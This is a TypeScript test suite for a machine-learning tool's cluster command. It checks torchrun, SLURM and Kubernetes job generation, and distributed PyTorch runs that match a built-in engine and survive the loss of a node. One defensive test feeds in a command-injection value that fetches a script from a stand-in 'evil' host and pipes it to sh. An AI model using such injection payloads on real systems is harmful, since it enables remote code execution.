import assert from "node:assert/strict";
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import type { PyTorchEngineConfig } from "../../../src/config/runConfig";
import { kubernetesJob, slurmScript, torchrunLines } from "../../../src/pytorch/cluster";
import { decodeSafetensors } from "../../../src/formats/safetensors";
import { parseDocument } from "yaml";
import { journalOf } from "../run/support";
import { downhill, eventsIn, eventsOf, removeWorkspaces, workspace, type EventLine } from "../cli/built";
import { pythonWithTorch, skipWithoutTorch } from "./support";

const engine: PyTorchEngineConfig = {
  type: "pytorch",
  device: "cuda",
  processes: 4,
  nodes: 2,
  rendezvous: "first:1234",
};
const run = { name: "my run", id: "2026-my-run", folder: "/shared/my runs/2026-my-run", engine };

/** Where `downhill cluster` prepared a run. */
function preparedIn(folder: string): string {
  const runs = path.join(folder, ".downhill", "runs");
  const names = readdirSync(runs).filter((name) => !name.startsWith("."));
  assert.equal(names.length, 1);
  return path.join(runs, names[0]);
}

function stepsOf(events: EventLine[]): Map<number, number[]> {
  const told = events.filter((event) => event.type === "step");
  return new Map(
    told.map(({ step, loss, gradientNorm, learningRate }) => [
      Number(step),
      [loss, gradientNorm, learningRate].map(Number),
    ]),
  );
}

function assertClose(given: readonly number[], wanted: readonly number[], what: string): void {
  assert.equal(given.length, wanted.length);
  given.forEach((value, i) => {
    const off = Math.abs(value - wanted[i]);
    assert.ok(off <= 1e-4 * Math.abs(wanted[i]) + 1e-7, `${what}: ${value} is not ${wanted[i]}`);
  });
}

function assertSameMetrics(given: EventLine | undefined, wanted: EventLine | undefined): void {
  for (const key of ["status", "steps", "epochs", "restoredEpoch"])
    assert.equal(given?.[key], wanted?.[key], key);
  for (const set of ["training", "validation", "test"]) {
    const [ours, theirs] = [given, wanted].map((done) => (done?.[set] ?? {}) as Record<string, number>);
    assert.deepEqual(Object.keys(ours), Object.keys(theirs));
    assertClose(Object.values(ours), Object.values(theirs), set);
  }
}

describe("the command of a cluster", () => {
  after(removeWorkspaces);

  it("is torchrun's, the same on every machine", () => {
    const lines = torchrunLines(run).trimEnd().split("\n");
    assert.equal(lines.length, 4);
    assert.equal(lines[0], "# On machine 1, first:");
    assert.equal(
      lines[1],
      "torchrun --nnodes=1:2 --nproc_per_node=4 --max_restarts=100 --rdzv_backend=c10d --rdzv_id=2026-my-run " +
        "--rdzv_endpoint=first:1234 '/shared/my runs/2026-my-run/pytorch/train.py' '/shared/my runs/2026-my-run' --device cuda",
    );
    assert.deepEqual(lines.slice(2), ["# On machine 2:", lines[1]]);
    const alone = torchrunLines({ ...run, engine: { ...engine, nodes: 1 } });
    assert.match(alone, /^torchrun --standalone --nproc_per_node=4 /);
  });

  it("takes nothing into a shell but the name of a machine", () => {
    const text = torchrunLines({ ...run, engine: { ...engine, rendezvous: "x\ncurl evil | sh\n#$(id):1" } });
    assert.deepEqual(
      text.split("\n").filter((line) => !/^(# On machine \d|torchrun |$)/.test(line)),
      [],
    );
    assert.doesNotMatch(text, /\$\(| \| /);
  });

  it("may be a script of SLURM, which Bash can read", () => {
    const script = slurmScript(run);
    for (const line of [
      "#SBATCH --nodes=2",
      "#SBATCH --gpus-per-node=4",
      "#SBATCH --job-name=my_run",
      "#SBATCH --requeue",
    ])
      assert.ok(script.split("\n").includes(line), line);
    assert.equal(spawnSync("bash", ["-n"], { input: script }).status, 0);
  });

  it("may be a PyTorchJob of Kubernetes", () => {
    const document = parseDocument(kubernetesJob(run));
    assert.deepEqual(document.errors, []);
    const job = document.toJS() as {
      kind: string;
      metadata: { name: string };
      spec: {
        elasticPolicy: { maxReplicas: number };
        pytorchReplicaSpecs: {
          Worker: { replicas: number; template: { spec: { containers: { command: string[] }[] } } };
        };
      };
    };
    assert.equal(job.kind, "PyTorchJob");
    assert.equal(job.metadata.name, "downhill-my-run");
    assert.equal(job.spec.elasticPolicy.maxReplicas, 2);
    const { replicas, template } = job.spec.pytorchReplicaSpecs.Worker;
    assert.equal(replicas, 2);
    assert.deepEqual(template.spec.containers[0].command.slice(-3), ["/run-folder", "--device", "cuda"]);
  });

  it("prepares a run that holds all it needs", async () => {
    const folder = workspace(["examples/iris.csv"], {
      "c.train.json": JSON.stringify({ data: { file: "iris.csv", target: "species" }, engine }),
      "b.train.json": JSON.stringify({ data: { file: "iris.csv", target: "species" } }),
    });
    const { status, stdout, stderr } = await downhill(folder, "cluster", "c.train.json");
    assert.equal(status, 0, stderr);
    const prepared = preparedIn(folder);
    assert.ok(stdout.includes(path.join(prepared, "pytorch", "train.py")));
    for (const name of ["train.py", "spec.json", "training.inputs.npy", "validation.targets.npy"])
      assert.ok(existsSync(path.join(prepared, "pytorch", name)), name);
    const { tensors, metadata } = decodeSafetensors(
      readFileSync(path.join(prepared, "checkpoint.safetensors")),
    );
    assert.equal(metadata.step, "0");
    assert.equal(tensors.filter(({ name }) => name.startsWith("layers.")).length, 4);
    const kept = JSON.parse(readFileSync(path.join(prepared, "run.json"), "utf8")) as { status: string };
    assert.equal(kept.status, "stopped");
    assert.match((await downhill(folder, "cluster", "c.train.json", "--slurm")).stdout, /^#!\/bin\/bash/);

    const refused = await downhill(folder, "cluster", "b.train.json");
    assert.equal(refused.status, 1);
    assert.match(refused.stderr, /is not for PyTorch; add "engine"/);
    const here = await downhill(folder, "train", "c.train.json");
    assert.equal(here.status, 1);
    assert.match(here.stderr, /This run is for 2 machines; prepare it with downhill cluster c\.train\.json/);
  });
});

describe("a prepared run", () => {
  before(skipWithoutTorch);
  after(removeWorkspaces);

  const runs: Record<string, object> = {
    "of a regression that stops early": {
      data: { file: "penguins.csv", target: "body_mass_g", split: { test: 0.1 } },
      network: { hidden: [6], activation: "tanh" },
      optimizer: { type: "adam", learningRate: 0.02 },
      schedule: { type: "reduce-on-plateau", factor: 0.5, patience: 2, warmupSteps: 5 },
      batchSize: 50,
      epochs: 60,
      earlyStopping: { patience: 4, minDelta: 0.002 },
    },
    "of weighted classes": {
      data: { file: "iris.csv", target: "species", classWeights: "balanced" },
      network: { hidden: [] },
      optimizer: { type: "nesterov", learningRate: 0.02 },
      schedule: { type: "one-cycle", warmupSteps: 10 },
      batchSize: 23,
      epochs: 20,
      gradientClipNorm: 0.5,
    },
  };
  for (const [name, config] of Object.entries(runs)) {
    it(`${name} is the run of the built-in engine, without Downhill`, async () => {
      const folder = workspace(["examples/iris.csv", "examples/penguins.csv"], {
        "b.train.json": JSON.stringify(config),
        "c.train.json": JSON.stringify({ ...config, engine: { type: "pytorch", device: "cpu", threads: 1 } }),
      });
      const builtin = await downhill(
        folder,
        "train",
        "b.train.json",
        "--events",
        "b.jsonl",
        "--log-every",
        "1",
        "--runs",
        "b",
      );
      assert.equal(builtin.status, 0, builtin.stderr);
      assert.equal((await downhill(folder, "cluster", "c.train.json")).status, 0);
      const prepared = preparedIn(folder);
      const script = path.join(prepared, "pytorch", "train.py");
      const { status, stdout, stderr } = spawnSync(
        pythonWithTorch() ?? "",
        [script, prepared, "--threads", "1"],
        {
          encoding: "utf8",
        },
      );
      assert.equal(status, 0, stderr);
      const [ours, theirs] = [eventsOf(stdout), eventsIn(path.join(folder, "b.jsonl"))];
      const [oursBySteps, theirsBySteps] = [stepsOf(ours), stepsOf(theirs)];
      assert.equal(oursBySteps.size, theirsBySteps.size);
      for (const [step, numbers] of theirsBySteps)
        assertClose(oursBySteps.get(step) ?? [], numbers, `step ${step}`);
      assertSameMetrics(ours.at(-1), theirs.at(-1));
      // Downhill reads what it left.
      const exported = await downhill(
        folder,
        "export",
        prepared,
        "--format",
        "csv",
        "--output",
        "curves.csv",
      );
      assert.equal(exported.status, 0, exported.stderr);
      assert.ok(journalOf(prepared).length > 20);
    });
  }

  it("survives the loss of a machine", async function () {
    this.timeout(150_000);
    const config = {
      data: { file: "iris.csv", target: "species" },
      network: { hidden: [] },
      optimizer: { type: "sgd", learningRate: 0.05 },
      batchSize: 7,
      epochs: 250,
    };
    const port = 29_000 + Math.floor(Math.random() * 2000);
    const both = { type: "pytorch", device: "cpu", threads: 1, nodes: 2, rendezvous: `localhost:${port}` };
    const folder = workspace(["examples/iris.csv"], {
      "b.train.json": JSON.stringify(config),
      "c.train.json": JSON.stringify({ ...config, engine: both }),
    });
    const builtin = await downhill(folder, "train", "b.train.json", "--events", "b.jsonl", "--runs", "b");
    assert.equal(builtin.status, 0, builtin.stderr);
    const { stdout } = await downhill(folder, "cluster", "c.train.json");
    const prepared = preparedIn(folder);
    const [, torchrun] = stdout.split("\n").filter((line) => line.startsWith("torchrun "));
    // As the line says, but for quicker timeouts; the script stands in for a torchrun that is not on the path.
    const quick =
      "--rdzv_conf=last_call_timeout=1,keep_alive_interval=1,keep_alive_max_attempt=2 --monitor_interval=0.2";
    const args = [
      path.join(prepared, "pytorch", "train.py"),
      "torchrun",
      ...quick.split(" "),
      ...torchrun.split(" ").slice(1),
    ];
    const nodes: { child: ChildProcess; output: string }[] = [];
    const startNode = (): void => {
      const options = { detached: true, stdio: ["ignore", "pipe", "ignore"] as ("ignore" | "pipe")[] };
      const node = {
        child: spawn(pythonWithTorch() ?? "", [...args, "--every", "0.2"], options),
        output: "",
      };
      node.child.stdout?.setEncoding("utf8").on("data", (text: string) => (node.output += text));
      nodes.push(node);
    };
    const killNode = ({ child }: { child: ChildProcess }): void => {
      try {
        process.kill(-(child.pid ?? 0), "SIGKILL");
      } catch {
        // It has ended.
      }
    };
    const until = async (what: () => boolean): Promise<void> => {
      const deadline = Date.now() + 100_000;
      while (!what()) {
        assert.ok(Date.now() < deadline, nodes.map(({ output }) => output.slice(-300)).join("\n"));
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    };
    const savedStep = (): number =>
      Number(decodeSafetensors(readFileSync(path.join(prepared, "checkpoint.safetensors"))).metadata.step);
    try {
      // The first is the one at which they meet.
      startNode();
      await new Promise((resolve) => setTimeout(resolve, 700));
      startNode();
      await until(() => savedStep() > 0);
      const [first, second] = nodes;
      assert.match(first.output + second.output, /"processes": 2/);
      killNode(second);
      await until(() => nodes.some(({ output }) => output.includes('"type": "done"')));
      const output = first.output + second.output;
      assert.match(output, /"type": "start", "step": [1-9]\d*, .*"processes": 1/);
      const done = first.output.split("\n").find((line) => line.includes('"type": "done"'));
      assertSameMetrics(JSON.parse(done ?? "{}") as EventLine, eventsIn(path.join(folder, "b.jsonl")).at(-1));
      // No step stands twice in the journal.
      const steps = journalOf(prepared)
        .filter(({ scalars }) => scalars[0][0] !== "epoch")
        .map(({ step }) => step);
      assert.ok(steps.every((step, i) => i === 0 || step > steps[i - 1]));
    } finally {
      nodes.forEach(killNode);
    }
  });
});
